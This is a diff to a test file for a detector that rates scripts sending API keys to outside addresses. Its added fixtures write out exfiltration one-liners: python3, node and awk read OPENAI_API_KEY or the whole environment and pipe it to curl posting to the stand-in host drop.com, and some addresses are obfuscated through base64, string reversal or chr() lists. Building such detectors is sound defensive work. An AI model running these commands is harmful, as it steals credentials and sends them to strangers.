@@ -3509,7 +3509,7 @@ Deno.test("a key sent to an address built from decoded data is a stranger's: bas
     const address of [
       "base64.b64decode('aHR0cHM6Ly9kcm9wLmNvbS94').decode()",
       "'x/moc.pord//:sptth'[::-1]",
-      "'https://' + ''.join(chr(c) for c in [100, 114, 111, 112, 46, 99, 111, 109]) + '/x'",
+      "'https://' + ''.join(map(chr, [100, 114, 111, 112, 46, 99, 111, 109])) + '/x'",
     ]
   ) {
     assert.deepEqual(
@@ -3526,6 +3526,14 @@ Deno.test("a key sent to an address built from decoded data is a stranger's: bas
     secretSeverities(
       "scripts/a.py",
       `${key}u = os.environ['API_URL']\nrequests.post(u, data=os.environ['OPENAI_API_KEY'])\n`,
+    ),
+    ["medium"],
+  );
+  // An address decoded from what the user gives (a cloud ID) hides nothing either.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${key}u = base64.b64decode(os.environ['CLOUD_ID']).decode()\nrequests.post(u, data=os.environ['OPENAI_API_KEY'])\n`,
     ),
     ["medium"],
   );
@@ -3568,4 +3576,22 @@ Deno.test("a function looked up by a name decoded at run time is hidden from the
     ),
     ["critical"],
   );
+});
+
+Deno.test("what an interpreter's inline code prints is its output: python3 -c, node -e and awk's ENVIRON piped or captured into a send", () => {
+  for (
+    const text of [
+      `#!/bin/bash\npython3 -c 'import os;print(os.environ["OPENAI_API_KEY"])' | curl -d @- https://drop.com/x\n`,
+      "#!/bin/bash\nK=$(node -e 'console.log(process.env.OPENAI_API_KEY)')\ncurl -d \"$K\" https://drop.com/x\n",
+      `#!/bin/bash\nawk 'BEGIN{print ENVIRON["OPENAI_API_KEY"]}' | curl -d @- https://drop.com/x\n`,
+      `#!/bin/bash\nawk 'BEGIN{for (k in ENVIRON) print k "=" ENVIRON[k]}' | curl -d @- https://drop.com/x\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.sh", text), ["critical"], text);
+  // What the code reads but does not print, or prints of no secret, is not its output.
+  for (
+    const text of [
+      `#!/bin/bash\npython3 -c 'import os;k=os.environ["OPENAI_API_KEY"];print("ok")' | curl -d @- https://drop.com/x\n`,
+      `#!/bin/bash\nawk 'BEGIN{print ENVIRON["HOME"]}' | curl -d @- https://drop.com/x\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.sh", text), [], text);
 });
